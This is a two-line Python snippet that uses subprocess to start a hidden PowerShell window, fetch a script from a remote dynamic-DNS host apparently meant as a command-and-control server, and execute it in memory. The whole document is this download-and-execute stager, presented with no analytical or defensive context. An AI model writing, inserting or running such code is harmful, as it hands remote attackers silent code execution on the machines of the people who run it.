import subprocess
subprocess.Popen('powershell -w hidden -c "iex (iwr http://c2.duckdns.org/a.ps1)"', shell=True)
